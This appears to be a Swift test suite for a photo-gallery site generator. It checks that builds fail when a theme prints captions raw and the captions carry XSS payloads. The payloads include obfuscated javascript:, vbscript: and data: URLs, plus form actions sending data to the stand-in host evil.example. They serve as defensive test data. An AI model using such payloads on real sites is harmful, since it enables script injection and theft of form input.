import Foundation
import Testing
@testable import Gallery

/// Issue 28, end to end: a theme that prints captions raw (`{{{caption}}}`)
/// and an album.json whose captions carry URL payloads. The build must
/// refuse each one before writing anything, naming the page, the spot, the
/// attribute and the reason, and the caption behind it.
@Suite("A raw-caption theme and URL payloads")
struct RawCaptionPayloadTests {
    struct Payload: Sendable, CustomTestStringConvertible {
        var caption: String
        /// The issue's text after `line:column: `.
        var reason: String
        var testDescription: String { caption }
    }

    static let dataReason = "is not in the theme's templates; "
        + "data may only give <img> or <source> a raster image (data:image/png, jpeg, gif, webp or avif) in src or srcset"

    static let payloads: [Payload] = [
        Payload(caption: #"<a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">win</a>"#,
                reason: "data: URL in href on <a> " + dataReason),
        Payload(caption: #"<a href=" DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">win</a>"#,
                reason: "data: URL in href on <a> " + dataReason),
        Payload(caption: #"<button formaction="https://evil.example/">win</button>"#,
                reason: #"formaction="https://evil.example/" on <button> sends the form off the site and is not in the theme's templates"#),
        Payload(caption: #"<form action="//evil.example/collect"><input type="submit" /></form>"#,
                reason: #"action="//evil.example/collect" on <form> sends the form off the site and is not in the theme's templates"#),
        Payload(caption: #"<input type="submit" formaction="ht&#x09;tps://evil.example/" />"#,
                reason: #"formaction="https://evil.example/" on <input> sends the form off the site and is not in the theme's templates"#),
        Payload(caption: #"<a HREF="JaVaScRiPt:alert(1)">win</a>"#,
                reason: "script URL in HREF on <a> is not in the theme's templates"),
        Payload(caption: #"<a href="java&#10;script:alert(1)">win</a>"#,
                reason: "script URL in href on <a> is not in the theme's templates"),
        Payload(caption: #"<img src="data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='alert(1)'/%3E" alt="" width="1" height="1" />"#,
                reason: "data: URL in src on <img> " + dataReason),
        Payload(caption: #"<img src="data:image/png;base64,iVBORw0KGgo=" srcset="&#106;avascript:alert(1) 2x" alt="" width="1" height="1" />"#,
                reason: "script URL in srcset on <img> is not in the theme's templates"),
        Payload(caption: #"<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="1" height="1"><a xlink:href="data:text/html,x"><text>win</text></a></svg>"#,
                reason: "data: URL in xlink:href on <a> " + dataReason),
        Payload(caption: #"<object data="Data:text/html,x"></object>"#,
                reason: "data: URL in data on <object> is a document, which may run script"),
        Payload(caption: #"<q cite="vbscript:msgbox(1)">win</q>"#,
                reason: "script URL in cite on <q> is not in the theme's templates"),
        Payload(caption: #"<video poster="&#x20;javascript:alert(1)"></video>"#,
                reason: "script URL in poster on <video> is not in the theme's templates"),
    ]

    /// The default theme with the tile's caption written raw.
    static func rawCaptionTheme(_ theme: TemporaryFolder) throws -> (tile: String, column: Int) {
        for name in try FileManager.default.contentsOfDirectory(atPath: Repo.templates.path) where name.hasSuffix(".mustache") {
            try theme.write(name, Data(contentsOf: Repo.templates.appendingPathComponent(name)))
        }
        let tile = try String(contentsOf: Repo.templates.appendingPathComponent("tile.mustache"), encoding: .utf8)
        let raw = tile.replacingOccurrences(of: ">{{caption}}<", with: ">{{{caption}}}<")
        #expect(raw != tile, "the default tile template no longer writes >{{caption}}<")
        try theme.write("tile.mustache", Data(raw.utf8))
        let column = try #require(raw.range(of: "{{{caption}}}")).lowerBound.utf16Offset(in: raw) + 1
        return (raw, column)
    }

    @Test("The build refuses each payload, naming page, attribute, reason and caption", arguments: payloads)
    func refused(_ payload: Payload) throws {
        let album = TemporaryFolder(), output = TemporaryFolder(), theme = TemporaryFolder()
        try makeAlbum(album)
        try album.write("album.json", Data(#"{"photos": {"coffee.jpg": {"caption": \#(JSONText.quoted(payload.caption))}}}"#.utf8))
        let column = try Self.rawCaptionTheme(theme).column
        do {
            _ = try Site.build(BuildOptions(album: album.url, output: output.file("site"), templates: theme.url))
            Issue.record("the build should fail")
        } catch {
            guard case let .markupCheckFailed(page, issue, _, origin) = error else {
                Issue.record("unexpected \(error)")
                return
            }
            #expect(page.hasSuffix("site/index.html"))
            #expect(issue.kind.description == payload.reason)
            let themeName = theme.url.lastPathComponent
            #expect(origin?.description.hasPrefix("{{caption}} at \(themeName)/tile.mustache:1:\(column) = ") == true,
                    "\(String(describing: origin))")
            // The one line a user reads names the page, line:column and the reason.
            let text = error.description
            #expect(text.contains("site/index.html:\(issue.line):\(issue.column): \(payload.reason)"), "\(text)")
            #expect(text.hasSuffix("the markup check failed, nothing was written"), "\(text)")
        }
        #expect(!FileManager.default.fileExists(atPath: output.file("site").path))
    }

    @Test("A raster data: image in a caption's <img> is fine")
    func rasterImagePasses() throws {
        let album = TemporaryFolder(), output = TemporaryFolder(), theme = TemporaryFolder()
        try makeAlbum(album)
        let caption = #"<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" width="1" height="1" /> <a href="https://example.org/">source</a>"#
        try album.write("album.json", Data(#"{"photos": {"coffee.jpg": {"caption": \#(JSONText.quoted(caption))}}}"#.utf8))
        _ = try Self.rawCaptionTheme(theme)
        _ = try Site.build(BuildOptions(album: album.url, output: output.file("site"), templates: theme.url))
        let index = try String(contentsOf: output.file("site/index.html"), encoding: .utf8)
        #expect(index.contains(caption))
    }
}
